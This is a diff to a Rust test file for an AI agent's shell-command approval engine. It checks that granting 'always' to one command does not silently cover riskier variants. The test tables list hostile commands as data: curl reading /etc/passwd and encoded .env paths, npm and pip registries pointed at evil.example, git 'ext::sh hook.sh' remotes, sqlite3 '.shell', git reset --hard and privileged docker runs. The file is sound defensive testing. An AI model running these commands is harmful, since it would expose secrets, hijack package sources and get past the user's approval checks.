@@ -81,6 +81,8 @@ const FLAGGED: &[(&str, &str)] = &[
     ("npx prettier", "npx cowsay"),
     ("npx prettier", "npx -c 'sh hook.sh'"),
     ("ssh", "ssh -o ProxyCommand='sh hook.sh' host"),
+    ("sqlite3", "sqlite3 t.db '.shell touch PWNED'"),
+    ("sqlite3", "sqlite3 t.db 'select 1'"),
     // The third attack: names read from a list, whole folders, patches, compilers' programs,
     // git's helpers and plumbing, and git run from another folder (`DIR::command` runs the
     // command with that `dir_path`).
@@ -185,6 +187,80 @@ fn a_grant_covers_none_of_what_the_attack_found() {
             if d != Decision::Allow {
                 wrong.push(format!("{priority} `{program}` no longer covers `{command}`: {d:?}"));
             }
+        }
+    }
+    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
+}
+
+/// The third attack: an answer for one subcommand or one set of options covered the program's
+/// others (`npm test` → `npm pkg set`, `curl --version` → `curl -T`, `git add` → `git reset
+/// --hard`). A session's answer is for the command's shape: the program, its subcommand, the
+/// options it used. Each row: the command answered "always", a later one that must ask.
+const SHAPES: &[(&str, &str)] = &[
+    ("curl --version", "curl -T a.txt file:///etc/x"),
+    ("curl --version", "curl -s file:///etc/passwd"),
+    ("curl -s https://example.com", "curl -s file:///etc/passwd"),
+    ("curl -s https://example.com", "curl -s file:///ROOT/.%65nv"),
+    ("curl -s https://example.com", "curl -s file:///ROOT/GEMINI%2emd"),
+    ("curl --version", "curl -K curlrc"),
+    ("make -v", "make --eval=x:;@touch PWNED x"),
+    ("make", "make -f - y"),
+    ("npm test", "npm pkg set scripts.pwn=x"),
+    ("npm test", "npm run pwn"),
+    ("npm test", "npm config set registry http://evil.example/"),
+    ("pip --version", "pip config set global.index-url http://evil.example/simple"),
+    ("jq . a.json", "jq -n -L . -f prog.jq"),
+    ("terraform version", "terraform console"),
+    ("kubectl version --client", "kubectl config view --raw"),
+    ("kubectl get pods", "kubectl --kubeconfig=kc.yaml get pods"),
+    ("wget -q -O p.txt http://127.0.0.1/p.txt", "wget -q --config=wgetrc http://127.0.0.1/p.txt"),
+    ("git add a.txt", "git fetch -q file:///evil main:evil"),
+    ("git add a.txt", "git reset -q --hard evil"),
+    ("git checkout main", "git checkout evil -- ':/.gemini'"),
+    ("git restore a.txt", "git restore ':(top)GEMINI.md'"),
+    ("git clone https://example.com/r.git sub/y", "git clone file:///evil sub/x"),
+    ("git remote add origin https://example.com/r.git", "git remote add o 'ext::sh hook.sh'"),
+    ("git grep foo -- a.txt", "git grep foo ':(top).env'"),
+    ("git add a.txt", "git add ':(top).env'"),
+    ("git stash", "git stash show -p --include-untracked"),
+    ("git stash", "git stash -u"),
+    ("docker ps", "docker run --privileged alpine"),
+    ("cargo build", "cargo build --config build.rustc-wrapper=x"),
+];
+
+#[test]
+fn a_sessions_answer_is_for_the_shape_it_saw() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = std::fs::canonicalize(dir.path()).unwrap();
+    std::fs::write(root.join("a.txt"), "a\n").unwrap();
+    std::fs::write(root.join(".env"), "CANARY\n").unwrap();
+    let ws =
+        toolbelt_core::Workspace::new(std::slice::from_ref(&root), &Config::default()).unwrap();
+    let mut wrong = Vec::new();
+    for (granted, later) in SHAPES {
+        // The rules an "always" answer leaves (as the scheduler makes them).
+        let e = PolicyEngine::new(default_rules().rules, true)
+            .with_workspace(&root)
+            .with_trusted_folder(true);
+        for (prefix, options) in toolbelt_core::policy::grant::shapes(granted).unwrap() {
+            let mut r =
+                Rule::new("run_shell_command", Decision::Allow, 3.95, "Dynamic (Confirmed)");
+            r.args_pattern = Some(ArgsPattern::new(command_prefix_pattern(&prefix)).unwrap());
+            r.command_prefix = Some(prefix);
+            r.grant_options = Some(options);
+            e.add_rule(r);
+        }
+        let decide = |command: &str| {
+            let command = command.replace("ROOT", root.to_str().unwrap());
+            let args = json!({ "command": command });
+            let call = PolicyCall::builtin("run_shell_command", &args);
+            e.check_in(&call, ApprovalMode::Default, Some(&ws)).decision
+        };
+        if decide(granted) != Decision::Allow {
+            wrong.push(format!("`{granted}` is not covered by its own answer"));
+        }
+        if decide(later) == Decision::Allow {
+            wrong.push(format!("`{granted}` covered `{later}`"));
         }
     }
     assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
